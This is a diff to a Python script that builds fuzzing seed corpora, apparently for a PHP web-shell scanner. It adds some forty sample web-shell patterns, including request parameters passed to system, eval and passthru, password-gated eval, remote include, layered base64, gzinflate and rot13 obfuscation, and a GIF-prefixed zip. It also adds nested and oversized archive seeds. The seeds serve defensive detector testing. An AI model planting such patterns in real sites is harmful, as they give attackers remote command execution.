@@ -4,7 +4,7 @@ the project's own fixtures (CLI case files, sample config, scan samples) plus
 a few hand-made inputs.  Run from the top of the source tree; the output is
 committed.  Crash reproducers are added to the corpus dirs by hand as
 crash-NAME files and are never rewritten here."""
-import glob, hashlib, os, re, zlib, base64
+import base64, bz2, glob, gzip, hashlib, io, lzma, os, re, struct, tarfile, zipfile, zlib
 
 SOURCES = ["postfix", "exim", "roundcube", "imp", "php", "sendmail-php", "sendmail2relay"]
 SIG_NAMES = {"sigs": 0, "fingerprints.txt": 1, "re": 2, "shelldetect.db": 3}
@@ -128,6 +128,187 @@ def php_lex_seeds():
         put("php_lex", open("t/scan/samples/%s.php" % f, "rb").read())
     put("php_lex", b"\"{$a[\"{$b[<<<X\n{$c}\nX]}\"]}\" /* ?> */ `${d}` $e->f\\g yield\tfrom x")
 
+# fuzz_php_an: byte 0 picks max_bytes (16 << n, at most 1 MiB), byte 1 the
+# budget polls answered "go on" (255: all); the rest is PHP.  Hand-written
+# forms of request data into sinks and of obfuscated constants; the
+# payloads are harmless (echo, phpinfo).
+PHP_AN = [
+    "<?php $c = $_GET['c']; system($c);",
+    "<?php $cmd = trim($_POST['cmd']); echo `$cmd`; passthru(\"ls \" . $_REQUEST['d']);",
+    "<?php eval(base64_decode('" + base64.b64encode(b"echo 'hi'; phpinfo();").decode() + "'));",
+    "<?php eval(gzinflate(base64_decode('" +
+    base64.b64encode(zlib.compress(b"echo 'layer two'; phpinfo();")[2:-4]).decode() + "')));",
+    "<?php eval(gzuncompress(base64_decode('" +
+    base64.b64encode(zlib.compress(b"echo 1+1;")).decode() + "')));",
+    "<?php eval(str_rot13(strrev(base64_decode('" +
+    base64.b64encode(b"echo 'rot';"[::-1].translate(bytes.maketrans(
+        b"abcdefghijklmnopqrstuvwxyz", b"nopqrstuvwxyzabcdefghijklm"))).decode() + "'))));",
+    "<?php $f = 'sys' . 'tem'; $f($_POST['x']);",
+    "<?php $e = strrev('tressa'); $e($_REQUEST['z']);",
+    "<?php $n = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $n($_COOKIE['k']);",
+    "<?php $k = \"\\x13\\x07\" ^ \"ab\"; $x = ~\"\\x9a\\x89\\x9e\\x93\"; $x($_GET[$k]);",
+    "<?php $v = '_GE' . 'T'; $w = ${$v}['a']; $$w = 1; eval(${\"_PO\" . \"ST\"}['b']);",
+    "<?php function run($x) { return shell_exec($x); } echo run($_COOKIE['q']);",
+    "<?php echo later($_GET['p']); function later($a) { eval($a); }",
+    "<?php array_map('assert', array($_POST['a'])); call_user_func($_GET['f'], $_GET['a']);",
+    "<?php usort($a, create_function('$x', $_REQUEST['b'])); $g = function($c) { system($c); }; "
+    "$g(getallheaders()['X-C']);",
+    "<?php preg_replace('/.*/e', $_POST['c'], ''); preg_replace(\"#x#ie\", 'phpinfo()', 'x');",
+    "<?php file_put_contents($_GET['n'], $_POST['d']); $h = fopen($_GET['m'], 'w'); "
+    "fwrite($h, file_get_contents('php://input'));",
+    "<?php move_uploaded_file($_FILES['u']['tmp_name'], $_POST['to']); "
+    "copy($_FILES['u']['tmp_name'], './' . $_FILES['u']['name']);",
+    "<?php $s = fsockopen($_GET['h'], 80); $d = fgets($s); eval($d); "
+    "include 'http://' . $_SERVER['HTTP_X_HOST'] . '/x.txt';",
+    "<?php mail($_POST['to'], 'subject', $_POST['body']); extract($_REQUEST); "
+    "parse_str($_SERVER['QUERY_STRING']);",
+    "<?php $f = str_replace('x', '', 'bxaxsxex6x4x_xdxexcxoxdxe'); "
+    "eval($f('" + base64.b64encode(b"echo 'replaced';").decode() + "'));",
+    "<?php $p = pack('H*', '" + b"phpinfo();".hex() + "'); eval($p); "
+    "eval(hex2bin('" + b"echo 2;".hex() + "')); eval(urldecode('%65%63%68%6f%20%33%3b'));",
+    "<?php eval(convert_uudecode(\"" +
+    __import__("binascii").b2a_uu(b"echo 'uu';").decode().strip().replace('"', '\\"') + "\"));",
+    "<?php $a = implode('', array('ph', 'pin', 'fo();')); eval($a); "
+    "eval(sprintf('%s%c%s', 'echo', 32, '5;')); eval(join('', ['ec', 'ho 6;']));",
+    "<?php eval(<<<EOT\necho 'heredoc';\nEOT\n); eval(<<<'NOW'\necho 'nowdoc';\nNOW\n);",
+    "<?php set_time_limit(0); error_reporting(0); ignore_user_abort(1); echo php_uname(); "
+    "echo posix_getuid(); print_r(scandir('.')); unlink(__FILE__); touch('x', 0); "
+    "symlink('/', 'r'); chmod('x', 0777); mysqli_connect('h', 'u', 'p'); socket_create(2, 1, 6);",
+    "<?php if (md5($_POST['p']) == '5f4dcc3b5aa765d61d8327deb882cf99') { eval($_POST['c']); }",
+    "<?php define('K', 'sys' . 'tem'); $fn = K; $fn($_GET['k']); class A { public $f; "
+    "function go() { $m = $this->f; return $m($_GET['z']); } } $o = new A; $o->f = 'exec'; $o->go();",
+    "<?php $o->$m(); $x = new $c; $_SESSION['a'] = $_GET['a']; system($_SESSION['a']);",
+    "<?php $a = str_repeat('A', 4096); $b = $a . $a . $a . $a; $c = $b . $b . $b . $b; "
+    "$d = $c . $c . $c . $c; eval($d . $d);",
+    "<?php $x = base64_decode(base64_decode(base64_decode('" +
+    base64.b64encode(base64.b64encode(base64.b64encode(b"echo 'deep';"))).decode() +
+    "'))); eval($x);",
+    "<?php $q = substr('xxxxphpinfo();yyyy', 4, 10); eval($q); eval(trim('  echo 7;'));",
+    "<?php $n = 0x7fffffffffffffff + 1; $m = -PHP_INT_MAX - 1; $z = 1 << 62; $y = 7 % -1;",
+    "<?php $a = ['s', 'y', 's']; $b = $a[0] . $a[1] . $a[2] . 'tem'; $b($_GET['c']);",
+    "<html><?= $_GET['x'] ?><?php ob_start('system'); echo $_GET['c']; ?></html>",
+    "echo 'not php yet'; eval($_GET['c']);",
+    "<?php eval('?>' . '<?php echo 8;');",
+    "<?php $u = strtolower('BASE64_DECODE'); $v = ucfirst('eval'); "
+    "$w = strtr('fzfufm', 'fzu', 'sye'); $w($_GET['t']);",
+    "<?php assert(stripslashes($_POST['a'])); $t = \"{$_GET['a']}\"; system(\"ping $t\");",
+]
+
+# fuzz_php_an folder inputs: (builtin or operator, max / 4096, arguments).
+FOLD_CALLS = [
+    ("base64_decode", 16, [b"ZWNobyAxOw=="]), ("str_rot13", 16, [b"riny"]),
+    ("strrev", 16, [b"lave"]), ("gzinflate", 16, [zlib.compress(b"echo 1;" * 20)[2:-4]]),
+    ("gzuncompress", 16, [zlib.compress(b"echo 2;")]), ("gzdecode", 16, [gzip.compress(b"x", mtime=0)]),
+    ("hex2bin", 16, [b"6563686f"]), ("urldecode", 16, [b"%65+%63"]),
+    ("rawurldecode", 16, [b"%2b+"]), ("strtolower", 16, [b"EVAL"]), ("ucfirst", 16, [b"eval"]),
+    ("str_replace", 16, [b"x", b"", b"sxyxsxtxexm"]),
+    ("str_ireplace", 16, [b"\1A\1B", b"\1", b"aabb"]),
+    ("substr", 16, [b"xxphpinfo", b"2", b"7"]), ("substr", 16, [b"abc", b"-2"]),
+    ("strtr", 16, [b"fzf", b"fz", b"sy"]), ("implode", 16, [b",", b"\1a\1b\1c"]),
+    ("join", 16, [b"\1ev\1al"]), ("chr", 16, [b"101"]), ("ord", 16, [b"e"]),
+    ("str_repeat", 1, [b"ab", b"3"]), ("trim", 16, [b"  x"]), ("ltrim", 16, [b"xxa", b"x"]),
+    ("rtrim", 16, [b"a..", b"."]), ("pack", 16, [b"H*", b"6576616c"]),
+    ("pack", 16, [b"C*", b"101", b"118"]), ("pack", 16, [b"A*", b"eval"]),
+    ("convert_uudecode", 16, [b"$979E;```\n`\n"]), ("strval", 16, [b"12"]),
+    ("hexdec", 16, [b"ff"]), ("octdec", 16, [b"777"]), ("bindec", 16, [b"101"]),
+    ("dechex", 16, [b"255"]), ("bin2hex", 16, [b"ab"]), ("stripslashes", 16, [b"a\\'b"]),
+    ("sprintf", 16, [b"%s%c%d%%", b"ev", b"97", b"1"]), ("eval", 16, [b"x"]),
+    (".", 16, [b"sys", b"tem"]), ("^", 16, [b"\x13\x07", b"ab"]), ("|", 16, [b"`", b"\x05"]),
+    ("&", 16, [b"12", b"10"]), ("+", 16, [b"1", b"2"]), ("-", 16, [b"5", b"7"]),
+    ("*", 16, [b"6", b"7"]), ("/", 16, [b"8", b"2"]), ("%", 16, [b"9", b"4"]),
+    ("<<", 16, [b"1", b"4"]), (">>", 16, [b"256", b"4"]), ("~", 16, [b"\x9a\x89"]),
+    ("**", 16, [b"2", b"3"]),
+]
+
+def php_an_seeds():
+    names = ["base64_decode", "str_rot13", "strrev", "gzinflate", "gzuncompress", "gzdecode",
+             "hex2bin", "urldecode", "rawurldecode", "strtolower", "strtoupper", "ucfirst",
+             "lcfirst", "str_replace", "str_ireplace", "substr", "strtr", "implode", "join",
+             "chr", "ord", "str_repeat", "trim", "ltrim", "rtrim", "chop", "pack",
+             "convert_uudecode", "strval", "hexdec", "octdec", "bindec", "dechex", "bin2hex",
+             "stripslashes", "sprintf", "eval", ""]
+    ops = [".", "^", "|", "&", "+", "-", "*", "/", "%", "<<", ">>", "~", "<", "**", ""]
+    for i, src in enumerate(PHP_AN):
+        put("php_an", bytes([16, 255]) + src.encode("latin-1"))
+        if i % 4 == 0:   # small budgets, and a budget that stops at the first poll
+            put("php_an", bytes([i % 8, 255 if i % 8 else 0]) + src.encode("latin-1"))
+    big = "<?php " + "$a = 'x' . 'y'; echo $a;\n" * 700
+    put("php_an", bytes([16, 0]) + big.encode())
+    put("php_an", bytes([16, 1]) + big.encode())
+    for name, m, args in FOLD_CALLS:
+        head = 0x80 | (0x40 | ops.index(name) if name in ops else names.index(name))
+        put("php_an", bytes([head, m]) + b"\0".join(args))
+
+# fuzz_archive: tiny archives made here (zip, tar, compressed, native phar,
+# nested), and ones that reach the harness's small limits (64 members,
+# 256 KiB a member, 1 MiB in all, 200 times past 64 KiB).
+PHP_MEMBER = b"<?php echo 'member'; ?>\n"
+
+def zip_of(members, method=zipfile.ZIP_DEFLATED):
+    b = io.BytesIO()
+    with zipfile.ZipFile(b, "w", method) as z:
+        for name, data in members:
+            z.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data, compress_type=method)
+    return b.getvalue()
+
+def tar_of(members, mode="w"):
+    b = io.BytesIO()
+    with tarfile.open(fileobj=b, mode=mode, format=tarfile.USTAR_FORMAT) as t:
+        for name, data in members:
+            info = tarfile.TarInfo(name)
+            info.mtime = 0
+            if data is None:
+                info.type = tarfile.DIRTYPE
+                t.addfile(info)
+            elif isinstance(data, str):
+                info.type = tarfile.SYMTYPE
+                info.linkname = data
+                t.addfile(info)
+            else:
+                info.size = len(data)
+                t.addfile(info, io.BytesIO(data))
+    return b.getvalue()
+
+def phar_of(members, stub=b"<?php __HALT_COMPILER(); ?>\r\n", alias=b"x.phar"):
+    """PHP's native phar: stub, manifest, member data, (no signature).
+    members: (name, data, how) with how 0 stored, 0x1000 gzip, 0x2000 bzip2."""
+    entries, blobs = b"", b""
+    for name, data, how in members:
+        blob = zlib.compress(data)[2:-4] if how == 0x1000 else \
+            bz2.compress(data) if how == 0x2000 else data
+        entries += struct.pack("<I", len(name)) + name + struct.pack(
+            "<IIIIII", len(data), 0, len(blob), zlib.crc32(data), 0x1b6 | how, 0)
+        blobs += blob
+    man = struct.pack("<IHI", len(members), 0x1100, 0x10000) + \
+        struct.pack("<I", len(alias)) + alias + struct.pack("<I", 0) + entries
+    return stub + struct.pack("<I", len(man)) + man + blobs
+
+def archive_seeds():
+    two = [("a.php", PHP_MEMBER), ("dir/b.txt", b"text\n")]
+    put("archive", zip_of(two))
+    put("archive", zip_of(two, zipfile.ZIP_STORED))
+    put("archive", zip_of(two + [("dir/", b"")]))
+    put("archive", tar_of([("a.php", PHP_MEMBER), ("d", None), ("l", "a.php")]))
+    put("archive", tar_of(two, "w:gz"))
+    put("archive", tar_of(two, "w:bz2"))
+    put("archive", tar_of(two, "w:xz"))
+    put("archive", gzip.compress(PHP_MEMBER, mtime=0))
+    put("archive", bz2.compress(PHP_MEMBER))
+    put("archive", lzma.compress(PHP_MEMBER))
+    put("archive", phar_of([(b"a.php", PHP_MEMBER, 0), (b"dir/", b"", 0),
+                            (b"g.php", PHP_MEMBER * 3, 0x1000), (b"b.php", PHP_MEMBER, 0x2000)]))
+    put("archive", phar_of([(b"x", b"", 0)], stub=b"#!/usr/bin/env php\n<?php __HALT_COMPILER();\n"))
+    put("archive", b"<?php echo 1; __HALT_COMPILER(); trailing bytes that are no manifest")
+    put("archive", b"GIF89a" + zip_of([("a.php", PHP_MEMBER)]))
+    inner = zip_of([("in.php", PHP_MEMBER)])
+    put("archive", zip_of([("inner.zip", inner), ("t.tar.gz", tar_of(two, "w:gz"))]))
+    put("archive", zip_of([("l2.zip", zip_of([("l3.zip", zip_of([("l4.zip", inner)]))]))]))
+    put("archive", phar_of([(b"in.zip", inner, 0x1000)]))
+    put("archive", zip_of([("f%d" % i, b"") for i in range(70)], zipfile.ZIP_STORED))
+    put("archive", zip_of([("zeros", b"\0" * 300000)]))
+    put("archive", gzip.compress(b"a" * 100000, mtime=0))
+    put("archive", tar_of([("z%d" % i, b"\0" * 200000) for i in range(6)], "w:gz"))
+
 def main():
     for d in glob.glob("t/fuzz/corpus/*/seed-*"):
         os.remove(d)
@@ -202,5 +383,7 @@ def main():
     proc_seeds()
     queue_seeds()
     php_lex_seeds()
+    php_an_seeds()
+    archive_seeds()
 
 main()
